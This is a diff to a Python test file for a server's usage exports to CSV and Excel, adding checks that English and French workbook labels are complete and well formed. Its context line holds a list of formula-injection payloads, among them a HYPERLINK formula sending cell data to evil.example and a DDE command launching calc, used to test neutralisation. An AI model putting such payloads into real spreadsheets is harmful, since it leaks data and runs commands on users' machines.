@@ -1,5 +1,6 @@
 """The usage exports as pure functions: formula injection neutralised in every text cell of the CSV and the
-workbook, text a workbook cannot hold cleaned, and the daily columns following the report's own keys."""
+workbook, text a workbook cannot hold cleaned, the daily columns following the report's own keys, and the
+workbook's words complete in English and French."""
 from __future__ import annotations
 
 import csv
@@ -13,6 +14,7 @@ import pytest
 
 from server.governance.usage import _empty_day
 from server.governance.usage_export import daily_columns, export_filename, neutralise_formula, usage_csv
+from server.governance.usage_labels import LANGUAGES, STRINGS, Labels
 from server.governance.usage_workbook import usage_xlsx
 
 HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2-3", "@SUM(1,2)",
@@ -89,3 +91,33 @@ def test_text_a_workbook_cannot_hold_is_cleaned_not_fatal():
 
 def test_filenames_name_the_range():
     assert export_filename(report(), "csv") == "drafter-usage-2026-03-03-2026-03-04.csv"
+
+
+def _placeholders(text: str) -> list[str]:
+    return sorted(re.findall(r"\{(\w+)\}", text))
+
+
+def test_the_workbooks_words_are_complete_in_both_languages():
+    assert tuple(STRINGS) == LANGUAGES == ("en", "fr")
+    assert set(STRINGS["fr"]) == set(STRINGS["en"])
+    for key, english in STRINGS["en"].items():
+        french = STRINGS["fr"][key]
+        assert english.strip() and french.strip(), key
+        assert _placeholders(french) == _placeholders(english), key
+        # French typography: a no-break space before a colon, never a plain one (the colon would wrap alone)
+        assert not re.search(r"(^|[^\u00a0\u202f]):", french), key
+    sheets = [STRINGS[language][f"sheet.{name}"] for language in LANGUAGES for name in ("summary", "daily", "users")]
+    assert all(len(name) <= 31 and not re.search(r"[\\/?*\[\]:]", name) for name in sheets)  # Excel's rules
+
+
+def test_labels_refuse_a_language_they_do_not_have_and_name_new_keys_by_themselves():
+    with pytest.raises(ValueError):
+        Labels("de")
+    assert Labels("fr").name("outcome", "blocked") == "Bloquée par la politique"
+    assert Labels("fr").name("action", "translate") == "translate"  # an action a later release adds
+
+
+def test_french_columns_keep_their_machine_names():
+    english, french = daily_columns(report()), daily_columns(report(), Labels("fr"))
+    assert [column.name for column in french] == [column.name for column in english]
+    assert [column.title for column in french][:3] == ["Jour", "Requêtes", "Requêtes\u00a0: réécriture"]
